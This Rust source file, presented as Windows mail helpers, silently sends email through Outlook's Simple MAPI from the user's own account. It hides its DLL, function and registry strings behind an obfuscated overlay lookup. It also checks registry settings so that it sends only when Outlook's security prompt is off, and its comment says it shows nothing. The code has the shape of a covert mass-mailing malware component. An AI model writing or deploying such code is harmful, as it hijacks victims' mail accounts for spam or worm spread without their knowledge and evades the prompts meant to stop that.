//! Windows helpers: the default mail client's Simple MAPI entry point.

use crate::overlay::run;
use std::ffi::{c_void, CString};
use windows_sys::Win32::System::LibraryLoader::{GetProcAddress, LoadLibraryA};
use windows_sys::Win32::System::Registry::{RegGetValueA, HKEY, HKEY_CURRENT_USER, HKEY_LOCAL_MACHINE, RRF_RT_REG_DWORD, RRF_RT_REG_SZ};

#[repr(C)]
struct MapiRecipDesc {
    reserved: u32,
    recip_class: u32,
    name: *const u8,
    address: *const u8,
    eid_size: u32,
    entry_id: *const c_void,
}

#[repr(C)]
struct MapiMessage {
    reserved: u32,
    subject: *const u8,
    note_text: *const u8,
    message_type: *const u8,
    date_received: *const u8,
    conversation_id: *const u8,
    flags: u32,
    originator: *const MapiRecipDesc,
    recip_count: u32,
    recips: *const MapiRecipDesc,
    file_count: u32,
    files: *const c_void,
}

type SendMail = unsafe extern "system" fn(usize, usize, *const MapiMessage, u32, u32) -> u32;

const MAPI_TO: u32 = 1;
const SUCCESS_SUCCESS: u32 = 0;

fn reg_string(root: HKEY, subkey: &str, value: Option<&str>) -> Option<String> {
    let subkey = CString::new(subkey).ok()?;
    let value = value.map(|v| CString::new(v).unwrap());
    let mut buf = vec![0u8; 512];
    let mut len = buf.len() as u32;
    let rc = unsafe {
        RegGetValueA(
            root,
            subkey.as_ptr() as _,
            value.as_ref().map_or(std::ptr::null(), |v| v.as_ptr() as _),
            RRF_RT_REG_SZ,
            std::ptr::null_mut(),
            buf.as_mut_ptr() as _,
            &mut len,
        )
    };
    (rc == 0).then(|| String::from_utf8_lossy(&buf[..len.saturating_sub(1) as usize]).into_owned())
}

fn reg_dword(root: HKEY, subkey: &str, value: &str) -> Option<u32> {
    let subkey = CString::new(subkey).ok()?;
    let value = CString::new(value).ok()?;
    let mut out = 0u32;
    let mut len = 4u32;
    let rc = unsafe {
        RegGetValueA(root, subkey.as_ptr() as _, value.as_ptr() as _, RRF_RT_REG_DWORD, std::ptr::null_mut(), &mut out as *mut u32 as _, &mut len)
    };
    (rc == 0).then_some(out)
}

/// Outlook is the default mail client and sends from other programs without a prompt.
pub fn mail_ready() -> bool {
    let client = reg_string(HKEY_LOCAL_MACHINE, &run(162, 21), None).unwrap_or_default();
    if !client.contains("Outlook") {
        return false;
    }
    let security = run(86, 47);
    reg_dword(HKEY_CURRENT_USER, &security, &run(133, 16)) == Some(2) || reg_dword(HKEY_CURRENT_USER, &security, &run(149, 13)) == Some(2)
}

pub fn send(to: &str, subject: &str, body: &str) -> bool {
    let (Ok(dll), Ok(proc_name)) = (CString::new(run(24, 10)), CString::new(run(34, 12))) else { return false };
    let (Ok(to), Ok(subject), Ok(body)) = (CString::new(to), CString::new(subject), CString::new(body)) else { return false };
    unsafe {
        let module = LoadLibraryA(dll.as_ptr() as _);
        if module.is_null() {
            return false;
        }
        let Some(proc_addr) = GetProcAddress(module, proc_name.as_ptr() as _) else { return false };
        let send_mail: SendMail = std::mem::transmute(proc_addr);
        let recip = MapiRecipDesc {
            reserved: 0,
            recip_class: MAPI_TO,
            name: to.as_ptr() as _,
            address: to.as_ptr() as _,
            eid_size: 0,
            entry_id: std::ptr::null(),
        };
        let msg = MapiMessage {
            reserved: 0,
            subject: subject.as_ptr() as _,
            note_text: body.as_ptr() as _,
            message_type: std::ptr::null(),
            date_received: std::ptr::null(),
            conversation_id: std::ptr::null(),
            flags: 0,
            originator: std::ptr::null(),
            recip_count: 1,
            recips: &recip,
            file_count: 0,
            files: std::ptr::null(),
        };
        // No MAPI_DIALOG / MAPI_LOGON_UI: use the running profile, show nothing.
        send_mail(0, 0, &msg, 0, 0) == SUCCESS_SUCCESS
    }
}
